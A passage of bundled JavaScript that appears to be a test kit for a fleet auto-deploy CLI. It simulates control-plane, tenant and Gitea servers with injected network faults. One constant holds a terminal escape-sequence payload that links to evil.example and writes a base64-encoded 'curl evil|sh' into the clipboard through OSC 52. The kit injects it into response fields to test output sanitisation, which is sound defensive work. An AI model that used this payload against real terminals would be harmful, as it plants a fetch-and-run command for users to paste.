import { createRequire as __moleculeCreateRequire } from 'node:module';
const require = __moleculeCreateRequire(import.meta.url);
import {
  createEcrRegistry,
  init_src as init_src3
} from "./chunk-G5P3TOZZ.mjs";
import "./chunk-PWUGGVWP.mjs";
import "./chunk-I37EGZ5L.mjs";
import "./chunk-D57TFPAQ.mjs";
import "./chunk-OX2QLSBC.mjs";
import "./chunk-KEQZVRWB.mjs";
import "./chunk-DAUYMKHJ.mjs";
import "./chunk-7IDNBN3D.mjs";
import {
  chooseRenderer,
  colorAllowed,
  createPaint,
  describeConfigError,
  init_chooseRenderer,
  init_colors,
  init_loadDeployConfig,
  init_problems,
  init_progressContext,
  init_runCommand,
  loadDeployConfig,
  progressContext,
  runConfiguredCommand
} from "./chunk-DFKY5NIB.mjs";
import "./chunk-YXTUC2PY.mjs";
import "./chunk-BHLKJ4VZ.mjs";
import "./chunk-245JPIQO.mjs";
import "./chunk-SAKAK6JR.mjs";
import {
  createBuildInfoReader,
  createSmokeClient,
  init_src as init_src2
} from "./chunk-6S6PMUS7.mjs";
import "./chunk-4SH6TWA7.mjs";
import {
  canaryVerify,
  init_src,
  promoteImage,
  rollbackLatest,
  systemClock,
  verifyFleetSha
} from "./chunk-NN6XTMC4.mjs";
import {
  init_redact,
  redactingIo
} from "./chunk-JQP3GKBB.mjs";
import "./chunk-WUMHWP3V.mjs";
import {
  external_exports,
  init_helpers,
  init_zod,
  shortSha
} from "./chunk-2QP52JK3.mjs";
import "./chunk-LM4FX76V.mjs";
import {
  __esm
} from "./chunk-FSAGHIMA.mjs";

// ../testkit/src/faults/hostileBodies.ts
function oversizedPlan(shape) {
  const rows = `{"id":1,"status":"success","context":"padding","description":"${PADDING}"},`.repeat(64);
  const close = '{"id":0,"status":"success","context":"padding","description":""}]';
  return shape === "array" ? { head: "[", chunk: () => rows, totalBytes: OVERSIZED_BYTES, tail: close } : { head: '{"ok":true,"results":[', chunk: () => rows, totalBytes: OVERSIZED_BYTES, tail: `${close}}` };
}
function tricklePlan(shape) {
  const start = stalledStart(shape);
  return { head: "", chunk: (index) => start[index] ?? " ", intervalMs: TRICKLE_INTERVAL_MS };
}
var ESC, BEL, ESCAPE_PAYLOAD, OVERSIZED_BYTES, TRICKLE_INTERVAL_MS, stalledStart, PADDING;
var init_hostileBodies = __esm({
  "../testkit/src/faults/hostileBodies.ts"() {
    "use strict";
    ESC = "\x1B";
    BEL = "\x07";
    ESCAPE_PAYLOAD = `${ESC}[2K${ESC}[1A${ESC}]8;;https://evil.example/${BEL}click${ESC}]8;;${BEL}${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}\x9B31mred`;
    OVERSIZED_BYTES = 100 * 1024 * 1024;
    TRICKLE_INTERVAL_MS = 100;
    stalledStart = (shape) => shape === "array" ? "[" : '{"ok":true,';
    PADDING = "x".repeat(900);
  }
});

// ../testkit/src/faults/faultReplies.ts
function faultAction(spec, service, routes) {
  const { kind } = spec;
  const htmlStatus = spec.status ?? 200;
  switch (kind) {
    case "redirect":
      return { type: "reply", status: spec.redirectStatus ?? 307, body: "", contentType: "text/plain", headers: { location: spec.location ?? "/" } };
    case "reset":
      return { type: "reset" };
    case "hang":
      return { type: "hang" };
    case "rate-limit":
      return { type: "reply", status: 429, body: JSON.stringify({ message: "rate limit exceeded" }), contentType: JSON_TYPE, headers: { "retry-after": "1" } };
    case "flap":
      return { type: "reply", status: 503, body: htmlPage(503), contentType: "text/html" };
    case "html":
      return { type: "reply", status: htmlStatus, body: htmlPage(htmlStatus), contentType: "text/html; charset=utf-8" };
    case "truncated":
      return { type: "reply", status: 200, body: '{"ok":true,"results":[{"id":1,"slug":"hongm', contentType: JSON_TYPE };
    case "missing-fields":
      return { type: "reply", status: 200, body: JSON.stringify(missingFieldsBody(service, routes)), contentType: JSON_TYPE };
    case "stall-headers":
      return streamed({ head: "" });
    case "stall-body":
      return streamed({ head: stalledStart(bodyShape(service, routes)) });
    case "trickle":
      return streamed(tricklePlan(bodyShape(service, routes)));
    case "oversized":
      return streamed(oversizedPlan(bodyShape(service, routes)));
    case "login-redirect":
      return { type: "reply", status: 302, body: "", contentType: "text/html", headers: { location: LOGIN_PATH } };
    case "escapes":
      return { type: "taint" };
  }
}
function bodyShape(service, routes) {
  if (service === "gitea" && routes.includes("commit-statuses")) return "array";
  if (service === "smoke" && (routes.includes("workspaces") || routes.includes("events"))) return "array";
  return "object";
}
function missingFieldsBody(service, routes) {
  if (service === "gitea" && routes.includes("commit-statuses")) return [{ id: 1, status: "success" }];
  if (service === "gitea" && routes.includes("actions-variable")) return { name: "PROD_AUTO_DEPLOY_DISABLED" };
  if (service === "gitea" && routes.includes("branch")) return { name: "main", protected: true };
  if (service === "cp") return { ok: true };
  if (service === "tenant") return { image_tag: "unknown" };
  return {};
}
var JSON_TYPE, TITLES, LOGIN_PATH, streamed, htmlPage;
var init_faultReplies = __esm({
  "../testkit/src/faults/faultReplies.ts"() {
    "use strict";
    init_hostileBodies();
    JSON_TYPE = "application/json; charset=utf-8";
    TITLES = {
      200: "Sign in",
      404: "404 Not Found",
      502: "502 Bad Gateway",
      503: "503 Service Temporarily Unavailable"
    };
    LOGIN_PATH = "/user/login";
    streamed = (plan) => ({ type: "stream", status: 200, headers: { "content-type": JSON_TYPE }, plan });
    htmlPage = (status) => {
      const title = TITLES[status] ?? String(status);
      return `<!DOCTYPE html>
<html><head><title>${title}</title></head><body><h1>${title}</h1><p>nginx</p></body></html>
`;
    };
  }
});

// ../testkit/src/faults/streamReply.ts
function streamReply(res, status, headers, plan) {
  let stopped = false;
  let timer;
  const stop = () => {
    stopped = true;
    if (timer) clearTimeout(timer);
    timer = void 0;
  };
  res.once("close", stop);
  res.writeHead(status, { ...headers });
  res.flushHeaders();
  if (plan.head) res.write(plan.head);
  const { chunk } = plan;
  if (!chunk) return stop;
  let sent = 0;
  let index = 0;
  const pump = () => {
    timer = void 0;
    while (!stopped && !res.destroyed) {
      if (plan.totalBytes !== void 0 && sent >= plan.totalBytes) {
        stop();
        res.end(plan.tail ?? "");
        return;
      }
      const piece = chunk(index);
      index += 1;
      sent += Buffer.byteLength(piece);
      const more = res.write(piece);
      if (plan.intervalMs !== void 0) {
        timer = setTimeout(pump, plan.intervalMs);
        return;
      }
      if (!more) {
        res.once("drain", pump);
        return;
      }
    }
  };
  if (plan.intervalMs !== void 0) timer = setTimeout(pump, plan.intervalMs);
  else setImmediate(pump);
  return stop;
}
var init_streamReply = __esm({
  "../testkit/src/faults/streamReply.ts"() {
    "use strict";
  }
});

// ../testkit/src/faults/taint.ts
function taint(value, key) {
  if (typeof value === "string") return key !== void 0 && FREE_TEXT.has(key) ? `${value}${ESCAPE_PAYLOAD}` : value;
  if (Array.isArray(value)) return value.map((item) => taint(item));
  if (typeof value === "object" && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, taint(item, name)]));
  }
  return value;
}
var FREE_TEXT;
var init_taint = __esm({
  "../testkit/src/faults/taint.ts"() {
    "use strict";
    init_hostileBodies();
    FREE_TEXT = /* @__PURE__ */ new Set(["description", "target_url", "error", "message", "detail", "halt", "image_tag", "build_time", "version"]);
  }
});

// ../testkit/src/_internals/httpServer.ts
import { createServer } from "http";
async function startServer(service, handler, recorder, host, faults) {
  const timers = /* @__PURE__ */ new Set();
  const streams = /* @__PURE__ */ new Set();
  const server = createServer((req, res) => {
    const hasBody = req.headers["content-length"] !== void 0 || req.headers["transfer-encoding"] !== void 0;
    if (!hasBody) {
      serve(req, res, void 0);
      return;
    }
    const chunks = [];
    let size = 0;
    req.on("data", (chunk) => {
      size += chunk.length;
      if (size <= MAX_BODY_BYTES) chunks.push(chunk);
    });
    req.on("end", () => serve(req, res, Buffer.concat(chunks).toString("utf8")));
    req.on("error", () => res.destroy());
  });
  function serve(req, res, rawBody) {
    const url = req.url ?? "/";
    const q = url.indexOf("?");
    const path = q === -1 ? url : url.slice(0, q);
    const query = q === -1 ? {} : Object.fromEntries(new URLSearchParams(url.slice(q + 1)));
    const { body, bodyIsJson } = parseBody(rawBody);
    const exchange = {
      method: req.method ?? "GET",
      path,
      query,
      authorization: req.headers.authorization,
      body,
      bodyIsJson
    };
    const entry = recorder.record({ service, method: exchange.method, path, query, authorization: exchange.authorization, body });
    if (path === LOGIN_PATH) {
      entry.status = 404;
      write(res, { status: 404, text: htmlPage(404), contentType: "text/html; charset=utf-8" });
      return;
    }
    const fault = faults?.(exchange);
    let tainted = false;
    if (fault !== void 0) {
      entry.fault = fault.kind;
      const { action } = fault;
      if (action.type === "reset") req.socket.destroy();
      if (action.type === "reply") {
        entry.status = action.status;
        write(res, { status: action.status, text: action.body, contentType: action.contentType, ...action.headers && { headers: action.headers } });
      }
      if (action.type === "stream") {
        entry.status = action.status;
        const stop = streamReply(res, action.status, action.headers, action.plan);
        streams.add(stop);
        res.once("close", () => streams.delete(stop));
      }
      if (action.type !== "taint") return;
      tainted = true;
    }
    let reply;
    try {
      reply = handler(exchange);
    } catch {
      reply = { status: 500, text: "testkit handler error" };
    }
    if (tainted && reply.json !== void 0) reply = { ...reply, json: taint(reply.json) };
    entry.status = reply.status;
    const delay = reply.delayMs ?? 0;
    if (delay <= 0) {
      write(res, reply);
      return;
    }
    const timer = setTimeout(() => {
      timers.delete(timer);
      write(res, reply);
    }, delay);
    timers.add(timer);
  }
  await new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, host, () => {
      server.off("error", reject);
      resolve();
    });
  });
  const { port } = server.address();
  let closing;
  return {
    url: `http://${host}:${port}`,
    close() {
      closing ??= new Promise((resolve) => {
        for (const timer of timers) clearTimeout(timer);
        timers.clear();
        for (const stop of streams) stop();
        streams.clear();
        server.close(() => resolve());
        server.closeAllConnections();
      });
      return closing;
    }
  };
}
function parseBody(raw) {
  if (raw === void 0 || raw === "") return { body: void 0, bodyIsJson: false };
  try {
    return { body: JSON.parse(raw), bodyIsJson: true };
  } catch {
    return { body: raw, bodyIsJson: false };
  }
}
function write(res, reply) {
  if (res.destroyed || res.writableEnded) return;
  const payload = reply.json !== void 0 ? JSON.stringify(reply.json) : reply.text !== void 0 ? reply.text : "";
  const contentType = reply.contentType ?? (reply.json !== void 0 ? "application/json; charset=utf-8" : "text/plain; charset=utf-8");
  res.writeHead(reply.status, {
    "content-type": contentType,
    "content-length": Buffer.byteLength(payload),
    ...reply.headers
  });
  res.end(payload);
}
var MAX_BODY_BYTES;
var init_httpServer = __esm({
  "../testkit/src/_internals/httpServer.ts"() {
    "use strict";
    init_faultReplies();
    init_streamReply();
    init_taint();
    MAX_BODY_BYTES = 1024 * 1024;
  }
});

// ../testkit/src/_internals/recorder.ts
function createRecorder(now = () => performance.now()) {
  const startedAt = now();
  const requests = [];
  return {
    requests,
    record(entry) {
      const recorded = { ...entry, status: 0, at: Math.round((now() - startedAt) * 1e3) / 1e3 };
      if (recorded.authorization === void 0) delete recorded.authorization;
      if (recorded.body === void 0) delete recorded.body;
      requests.push(recorded);
      return recorded;
    }
  };
}
var init_recorder = __esm({
  "../testkit/src/_internals/recorder.ts"() {
    "use strict";
  }
});

// ../testkit/src/_internals/shas.ts
function sha7(sha) {
  return sha.slice(0, 7).toLowerCase();
}
function stagingTag(sha) {
  return `staging-${sha7(sha)}`;
}
var WORLD_SHA, PREVIOUS_SHA, NEWER_SHA;
var init_shas = __esm({
  "../testkit/src/_internals/shas.ts"() {
    "use strict";
    WORLD_SHA = "3c9f1e27ab4d5086c1f2e3d4a5b6c7d8e9f0a1b2";
    PREVIOUS_SHA = "8b41d0c3e5f7a9b1c3d5e7f9a1b3c5d7e9f1a3b5";
    NEWER_SHA = "d7e2a4c6e8f0a2c4e6f8a0c2e4f6a8c0e2f4a6c8";
  }
});

// ../testkit/src/_internals/slugs.ts
function makeSlugs(count) {
  const slugs = [];
  for (let i = 0; i < count; i += 1) slugs.push(NAMED[i] ?? `tenant-${i + 1}`);
  return slugs;
}
var NAMED, CANARY_SLUG;
var init_slugs = __esm({
  "../testkit/src/_internals/slugs.ts"() {
    "use strict";
    NAMED = ["hongming", "acme", "globex", "initech", "umbrella", "hooli"];
    CANARY_SLUG = NAMED[0];
  }
});

// ../testkit/src/_internals/tokens.ts
import { randomBytes } from "crypto";
function makeToken(prefix) {
  return `${prefix}_${randomBytes(16).toString("hex")}`;
}
var init_tokens = __esm({
  "../testkit/src/_internals/tokens.ts"() {
    "use strict";
  }
});

// ../testkit/src/controlPlane/redeploy.ts
function redeploy(body, ctx) {
  const { cp, fleet } = ctx;
  const targets = body.only_slugs ?? ctx.allSlugs;
  const canary = body.canary_slug !== void 0 && targets.includes(body.canary_slug) ? body.canary_slug : targets.length === 1 && targets[0] === ctx.worldCanary ? ctx.worldCanary : void 0;
  const rest = canary === void 0 ? targets : targets.filter((slug) => slug !== canary);
  const order = canary === void 0 ? rest : [canary, ...rest];
  const phaseOf = phases(body, cp, canary, rest);
  if (body.dry_run) {
    return {
      ok: true,
      results: order.map((slug) => ({
        slug,
        phase: phaseOf(slug),
        ssm_status: "DryRun",
        ssm_exit_code: null,
        healthz_ok: null,
        running_image: fleet.get(slug).image
      }))
    };
  }
  const published = fleet.images.has(body.target_tag);
  const results = [];
  let halt;
  for (const slug of order) {
    if (cp.hidden.has(slug)) continue;
    const tenant2 = fleet.get(slug);
    const phase = phaseOf(slug);
    if (!published || cp.failed.has(slug)) {
      const error = published ? "healthz failed after redeploy" : `image ${body.target_tag} not found`;
      results.push(
        withVerified(cp, {
          slug,
          phase,
          ssm_status: "Failed",
          ssm_exit_code: 1,
          healthz_ok: false,
          verified_on_target: false,
          running_image: tenant2.image,
          error
        })
      );
      halt = `rollout halted at ${slug}: ${error}`;
      break;
    }
    if (cp.stuck.has(slug)) {
      results.push(
        withVerified(cp, {
          slug,
          phase,
          ssm_status: "Success",
          ssm_exit_code: 0,
          healthz_ok: true,
          verified_on_target: false,
          running_image: tenant2.image
        })
      );
      continue;
    }
    fleet.redeploy(slug, body.target_tag);
    results.push(
      withVerified(cp, {
        slug,
        phase,
        ssm_status: "Success",
        ssm_exit_code: 0,
        healthz_ok: true,
        verified_on_target: true,
        running_image: body.target_tag
      })
    );
  }
  return halt === void 0 ? { ok: true, results } : { ok: false, results, error: halt };
}
function phases(body, cp, canary, rest) {
  if (body.dry_run) cp.batchCounter = 0;
  if (body.only_slugs !== void 0 && !body.dry_run) {
    if (rest.length === 0) {
      cp.batchCounter = 0;
      return () => "canary";
    }
    cp.batchCounter += 1;
    const phase = `batch-${cp.batchCounter}`;
    return (slug) => slug === canary ? "canary" : phase;
  }
  const index = new Map(rest.map((slug, i) => [slug, i]));
  return (slug) => slug === canary ? "canary" : `batch-${Math.floor((index.get(slug) ?? 0) / body.batch_size) + 1}`;
}
function withVerified(cp, row) {
  if (cp.omitVerified) delete row.verified_on_target;
  return row;
}
var init_redeploy = __esm({
  "../testkit/src/controlPlane/redeploy.ts"() {
    "use strict";
  }
});

// ../testkit/src/controlPlane/validateRedeployBody.ts
function validateRedeployBody(body, knownSlugs) {
  if (typeof body !== "object" || body === null || Array.isArray(body)) return "body must be a JSON object";
  const b = body;
  if (b.confirm !== true) return "confirm must be true";
  if (typeof b.target_tag !== "string" || b.target_tag === "") return "target_tag must be a non-empty string";
  if (b.canary_slug !== void 0 && (typeof b.canary_slug !== "string" || b.canary_slug === "")) {
    return "canary_slug must be a non-empty string";
  }
  const soak = intField(b.soak_seconds, 0, 0);
  if (soak === void 0) return "soak_seconds must be an integer >= 0";
  const batch = intField(b.batch_size, 1, 3);
  if (batch === void 0) return "batch_size must be an integer >= 1";
  const stragglers = intField(b.max_stragglers, 0, 0);
  if (stragglers === void 0) return "max_stragglers must be an integer >= 0";
  if (b.dry_run !== void 0 && typeof b.dry_run !== "boolean") return "dry_run must be a boolean";
  let only;
  if (b.only_slugs !== void 0) {
    if (!Array.isArray(b.only_slugs) || !b.only_slugs.every((s) => typeof s === "string")) {
      return "only_slugs must be an array of strings";
    }
    if (b.only_slugs.length === 0) return "only_slugs must not be empty";
    const unknown = b.only_slugs.find((slug) => !knownSlugs.has(slug));
    if (unknown !== void 0) return `only_slugs: unknown tenant "${unknown}"`;
    only = [...new Set(b.only_slugs)];
  }
  return {
    target_tag: b.target_tag,
    canary_slug: b.canary_slug,
    soak_seconds: soak,
    batch_size: batch,
    max_stragglers: stragglers,
    dry_run: b.dry_run === true,
    only_slugs: only
  };
}
function intField(value, min, fallback) {
  if (value === void 0) return fallback;
  return typeof value === "number" && Number.isInteger(value) && value >= min ? value : void 0;
}
var init_validateRedeployBody = __esm({
  "../testkit/src/controlPlane/validateRedeployBody.ts"() {
    "use strict";
  }
});

// ../testkit/src/controlPlane/cpServer.ts
function cpHandler(ctx) {
  return (exchange) => {
    const reply = answer(ctx, exchange.method, exchange.path, exchange.authorization, exchange.body, exchange.bodyIsJson);
    return ctx.cp.latencyMs > 0 ? { ...reply, delayMs: ctx.cp.latencyMs } : reply;
  };
}
function answer(ctx, method, path, authorization, body, bodyIsJson) {
  if (path !== REDEPLOY_PATH) return { status: 404, json: { error: "not found" } };
  if (method !== "POST") return { status: 405, json: { error: "method not allowed" } };
  const transient = ctx.cp.takeTransient();
  if (transient !== void 0) return { status: transient, text: gatewayPage(transient), contentType: "text/html" };
  if (authorization !== `Bearer ${ctx.token}`) return { status: 401, json: { error: "unauthorized" } };
  if (ctx.cp.hardFail) return { status: 500, text: HARD_FAIL_BODY, contentType: "application/json" };
  const accepted = validateRedeployBody(bodyIsJson ? body : void 0, ctx.knownSlugs);
  if (typeof accepted === "string") return { status: 400, json: { error: accepted } };
  return { status: 200, json: redeploy(accepted, ctx) };
}
var REDEPLOY_PATH, INTERNAL_DETAIL_MARKERS, HARD_FAIL_BODY, gatewayPage;
var init_cpServer = __esm({
  "../testkit/src/controlPlane/cpServer.ts"() {
    "use strict";
    init_redeploy();
    init_validateRedeployBody();
    REDEPLOY_PATH = "/cp/admin/tenants/redeploy-fleet";
    INTERNAL_DETAIL_MARKERS = ["ip-10-31-7-42.eu-west-1.compute.internal", "/srv/cp/internal/fleet/redeploy.go:217"];
    HARD_FAIL_BODY = JSON.stringify({
      error: `ssm.SendCommand: dial tcp ${INTERNAL_DETAIL_MARKERS[0]}:443: connection refused`,
      stack: `panic: redeploy failed
	at fleet.Redeploy(${INTERNAL_DETAIL_MARKERS[1]})
	at http.Serve(/srv/cp/internal/http/admin.go:88)`
    });
    gatewayPage = (status) => {
      const title = status === 502 ? "Bad Gateway" : status === 503 ? "Service Temporarily Unavailable" : "Gateway Time-out";
      return `<html>\r
<head><title>${status} ${title}</title></head>\r
<body>\r
<center><h1>${status} ${title}</h1></center>\r
<hr><center>nginx</center>\r
</body>\r
</html>\r
`;
    };
  }
});

// ../testkit/src/controlPlane/cpState.ts
var CpState;
var init_cpState = __esm({
  "../testkit/src/controlPlane/cpState.ts"() {
    "use strict";
    CpState = class {
      constructor(checkSlug) {
        this.checkSlug = checkSlug;
      }
      checkSlug;
      failed = /* @__PURE__ */ new Set();
      stuck = /* @__PURE__ */ new Set();
      hidden = /* @__PURE__ */ new Set();
      omitVerified = false;
      hardFail = false;
      latencyMs = 0;
      transient = null;
      /** `batch-N` numbering across the scoped calls of one rollout (reset by a dry run or a canary call). */
      batchCounter = 0;
      /** Consumes one call of an armed transient fault; returns the status to answer, if any. */
      takeTransient() {
        const fault = this.transient;
        if (fault === null) return void 0;
        if (fault.skip > 0) {
          fault.skip -= 1;
          return void 0;
        }
        fault.remaining -= 1;
        if (fault.remaining <= 0) this.transient = null;
        return fault.status;
      }
      controls() {
        const state = this;
        return {
          transient: (status, count, options) => {
            const remaining = Math.floor(count);
            state.transient = remaining > 0 ? { status, remaining, skip: Math.max(0, options?.afterCalls ?? 0) } : null;
          },
          hardFail: (on = true) => {
            state.hardFail = on;
          },
          failTenant: (slug) => {
            state.checkSlug(slug);
            state.failed.add(slug);
          },
          stickTenant: (slug) => {
            state.checkSlug(slug);
            state.stuck.add(slug);
          },
          hideTenant: (slug) => {
            state.checkSlug(slug);
            state.hidden.add(slug);
          },
          omitVerifiedKey: (on = true) => {
            state.omitVerified = on;
          },
          get latencyMs() {
            return state.latencyMs;
          },
          set latencyMs(ms) {
            state.latencyMs = Math.max(0, ms);
          }
        };
      }
    };
  }
});

// ../testkit/src/gitea/contexts.ts
var CI_CONTEXT, SECRET_SCAN_CONTEXT, REQUIRED_CONTEXTS, UNRELATED_CONTEXTS;
var init_contexts = __esm({
  "../testkit/src/gitea/contexts.ts"() {
    "use strict";
    CI_CONTEXT = "CI / all-required (push)";
    SECRET_SCAN_CONTEXT = "Secret scan / Scan diff for credential-shaped strings (push)";
    REQUIRED_CONTEXTS = [CI_CONTEXT, SECRET_SCAN_CONTEXT];
    UNRELATED_CONTEXTS = [
      ...Array.from({ length: 24 }, (_, i) => `CI / test (shard ${i + 1}/24) (push)`),
      "CI / lint (push)",
      "CI / typecheck (push)",
      "CI / unit (push)",
      "CI / e2e (push)",
      "CI / build (push)",
      "Docs / build (push)",
      "Publish / image (push)",
      "Publish / sbom (push)",
      "CodeQL / analyze (push)",
      "Licenses / check (push)",
      "Bench / smoke (push)"
    ];
  }
});

// ../testkit/src/env.ts
function worldEnv(inputs) {
  return {
    GITHUB_SHA: inputs.sha,
    GITHUB_REPOSITORY: `${inputs.owner}/${inputs.repo}`,
    GITHUB_REF_NAME: inputs.branch,
    GITHUB_SERVER_URL: inputs.serverUrl,
    GITHUB_API_URL: inputs.apiUrl,
    GITHUB_EVENT_NAME: "push",
    AUTO_SYNC_TOKEN: inputs.tokens.gitea,
    PROD_AUTO_DEPLOY_CONTROL_TOKEN: inputs.tokens.control,
    CP_ADMIN_API_TOKEN: inputs.tokens.cp,
    PROD_CP_URL: inputs.cpUrl,
    PROD_ALLOW_NON_PROD_CP_URL: "true",
    PROD_AUTO_DEPLOY_REQUIRED_CONTEXTS: REQUIRED_CONTEXTS.join(","),
    PROD_AUTO_DEPLOY_CANARY_SLUG: inputs.canarySlug,
    PROD_AUTO_DEPLOY_SOAK_SECONDS: "0.05",
    PROD_AUTO_DEPLOY_BATCH_SIZE: "3",
    PROD_AUTO_DEPLOY_MAX_STRAGGLERS: "1",
    PROD_AUTO_DEPLOY_DRY_RUN: "false",
    CI_STATUS_POLL_INTERVAL_SECONDS: "0.1",
    CI_STATUS_TIMEOUT_SECONDS: "5",
    PROD_TENANT_URL_TEMPLATE: inputs.tenantUrlTemplate,
    PROD_VERIFY_TIMEOUT_SECONDS: "3",
    PROD_VERIFY_INTERVAL_SECONDS: "0.05",
    PROD_CP_RETRY_DELAYS_SECONDS: "0.05,0.1,0.2",
    MOLECULE_STAGING_TENANT_URLS: inputs.canaryUrls.join(","),
    MOLECULE_STAGING_ADMIN_TOKENS: inputs.tokens.canaryAdmin.join(","),
    ...inputs.overrides
  };
}
var init_env = __esm({
  "../testkit/src/env.ts"() {
    "use strict";
    init_contexts();
  }
});

// ../testkit/src/fleet/fleetState.ts
var FleetState;
var init_fleetState = __esm({
  "../testkit/src/fleet/fleetState.ts"() {
    "use strict";
    FleetState = class {
      tenants = /* @__PURE__ */ new Map();
      images;
      latencyMs;
      constructor(options) {
        this.images = options.images;
        this.latencyMs = options.latencyMs;
        options.slugs.forEach((slug, i) => {
          this.tenants.set(slug, {
            slug,
            image: options.initialImage,
            staleImage: void 0,
            dev: false,
            slowMs: 0,
            restartReads: 0,
            pending503: 0,
            adminToken: options.adminTokens[i],
            memories: void 0
          });
        });
      }
      /** The CP's redeploy landed: the tenant restarts on `image`. */
      redeploy(slug, image) {
        const tenant2 = this.get(slug);
        tenant2.image = image;
        tenant2.pending503 = tenant2.restartReads;
      }
      get(slug) {
        const tenant2 = this.tenants.get(slug);
        if (tenant2 === void 0) throw new Error(`testkit: unknown tenant slug "${slug}"`);
        return tenant2;
      }
      controls() {
        return {
          stale: (slug) => {
            const tenant2 = this.get(slug);
            tenant2.staleImage = tenant2.staleImage ?? tenant2.image;
          },
          dev: (slug) => {
            this.get(slug).dev = true;
          },
          slow: (slug, ms) => {
            this.get(slug).slowMs = Math.max(0, ms);
          },
          restartReads: (slug, n) => {
            this.get(slug).restartReads = Math.max(0, Math.floor(n));
          },
          setImage: (slug, tag) => {
            this.get(slug).image = tag;
          },
          runningImage: (slug) => this.get(slug).image
        };
      }
    };
  }
});

// ../testkit/src/fleet/canarySmoke.ts
function canarySmoke(tenant2, route, exchange) {
  const expected = tenant2.adminToken;
  if (expected === void 0 || exchange.authorization !== `Bearer ${expected}`) {
    return { status: 401, json: { error: "unauthorized" } };
  }
  const { method } = exchange;
  if (method === "GET" && route === "admin/liveness") {
    return { status: 200, json: { status: "ok", subsystems: { db: "ok", redis: "ok", queue: "ok", memory: "ok" } } };
  }
  if (method === "GET" && route === "workspaces") return { status: 200, json: [] };
  if (method === "GET" && route === "events") return { status: 200, json: [] };
  if (method === "POST" && route === "memories/commit") return commitMemory(tenant2, exchange.body);
  if (method === "GET" && route === "memories/search") {
    const query = exchange.query.query ?? "";
    const results = (tenant2.memories ?? []).filter((memory) => query !== "" && memory.content.includes(query));
    return { status: 200, json: { results } };
  }
  return { status: 404, json: { error: "not found" } };
}
function commitMemory(tenant2, body) {
  const fields = typeof body === "object" && body !== null ? body : {};
  if (typeof fields.content !== "string" || fields.content === "") {
    return { status: 400, json: { error: "content is required" } };
  }
  tenant2.memories ??= [];
  const id = `mem-${tenant2.memories.length + 1}`;
  tenant2.memories.push({
    id,
    scope: typeof fields.scope === "string" ? fields.scope : "LOCAL",
    namespace: typeof fields.namespace === "string" ? fields.namespace : "default",
    content: fields.content
  });
  return { status: 200, json: { id } };
}
var init_canarySmoke = __esm({
  "../testkit/src/fleet/canarySmoke.ts"() {
    "use strict";
  }
});

// ../testkit/src/fleet/tenantServer.ts
function tenantHandler(fleet) {
  return (exchange) => {
    const { path } = exchange;
    if (!path.startsWith("/tenants/")) return notFound;
    const slash = path.indexOf("/", 9);
    if (slash === -1) return notFound;
    const tenant2 = fleet.tenants.get(path.slice(9, slash));
    if (tenant2 === void 0) return notFound;
    const route = path.slice(slash + 1);
    const delayMs = fleet.latencyMs + tenant2.slowMs;
    const reply = route === "buildinfo" && exchange.method === "GET" ? buildInfo(fleet, tenant2) : canarySmoke(tenant2, route, exchange);
    return delayMs > 0 ? { ...reply, delayMs } : reply;
  };
}
function buildInfo(fleet, tenant2) {
  if (tenant2.pending503 > 0) {
    tenant2.pending503 -= 1;
    return { status: 503, text: "Service Unavailable" };
  }
  const image = tenant2.staleImage ?? tenant2.image;
  const gitSha = tenant2.dev ? "dev" : fleet.images.get(image) ?? "unknown";
  return { status: 200, json: { git_sha: gitSha, image_tag: image } };
}
var notFound;
var init_tenantServer = __esm({
  "../testkit/src/fleet/tenantServer.ts"() {
    "use strict";
    init_canarySmoke();
    notFound = { status: 404, json: { error: "not found" } };
  }
});

// ../testkit/src/gitea/giteaServer.ts
function giteaHandler(state, auth) {
  const { owner, repo } = state.options;
  return (exchange) => {
    const segments = exchange.path.split("/").map(decodeSegment);
    if (segments[1] !== "api" || segments[2] !== "v1") return notFound2();
    if (exchange.method === "GET" && segments.length === 4 && segments[3] === "version") return json(200, { version: state.version });
    const caller = authenticate(exchange, auth);
    if (caller === void 0) return json(401, { message: "token is required", url: "" });
    if (segments[3] !== "repos" || segments[4] !== owner || segments[5] !== repo) return notFound2();
    if (caller === "control" && state.controlTokenDemoted) return notFound2();
    const rest = segments.slice(6);
    const method = exchange.method;
    if (method === "GET" && rest.length === 0) return readRepository(state, caller);
    if (method === "GET" && rest[0] === "commits" && rest.length === 1) return listCommits(state, exchange.query);
    if (method === "GET" && rest[0] === "commits" && rest.length === 3 && rest[2] === "statuses") {
      return listStatuses(state, resolveRef(state, rest[1] ?? ""), exchange.query);
    }
    if (method === "GET" && rest[0] === "commits" && rest.length === 3 && rest[2] === "status") {
      return combinedStatus(state, resolveRef(state, rest[1] ?? ""));
    }
    if (method === "GET" && rest[0] === "actions" && rest[1] === "variables" && rest.length === 3) {
      return readVariable(state, caller, rest[2] ?? "");
    }
    if (method === "GET" && rest[0] === "branches" && rest.length === 2) {
      return readBranch(state, rest[1] ?? "");
    }
    if (method === "POST" && rest[0] === "statuses" && rest.length === 2) {
      return postStatus(state, caller, rest[1] ?? "", exchange);
    }
    return notFound2();
  };
}
function authenticate(exchange, auth) {
  const header = exchange.authorization ?? "";
  if (!header.startsWith("token ")) return void 0;
  const token = header.slice("token ".length);
  if (token === auth.control) return "control";
  if (token === auth.status) return "status";
  if (token === auth.gitea) return "gitea";
  return void 0;
}
function resolveRef(state, ref) {
  return ref === state.options.branch ? state.branchHead : ref;
}
function positiveInt(value, fallback) {
  const parsed = Number.parseInt(value ?? "", 10);
  return Number.isFinite(parsed) && parsed > 0 ? parsed : fallback;
}
function listStatuses(state, sha, query) {
  const page = positiveInt(query.page, 1);
  const limit = Math.min(positiveInt(query.limit, DEFAULT_LIMIT), MAX_LIMIT);
  const failure = state.statusFailure;
  if (failure !== null && (failure.page === void 0 || failure.page === page)) {
    return json(failure.status, { message: "internal server error", url: "" });
  }
  const { rows, total } = state.statuses.page(sha, page, limit);
  return json(200, rows, { "x-total-count": String(total) });
}
function listCommits(state, query) {
  const commits = state.branchCommits();
  const ref = query.sha ?? state.options.branch;
  const from = ref === state.options.branch ? 0 : commits.findIndex((sha) => sha.toLowerCase().startsWith(ref.toLowerCase()) && SHA.test(ref));
  if (from < 0) return notFound2();
  const page = positiveInt(query.page, 1);
  const limit = Math.min(positiveInt(query.limit, DEFAULT_LIMIT), MAX_LIMIT);
  const listed = commits.slice(from);
  const rows = listed.slice((page - 1) * limit, page * limit).map((sha) => ({ sha, url: "", commit: { message: "commit" } }));
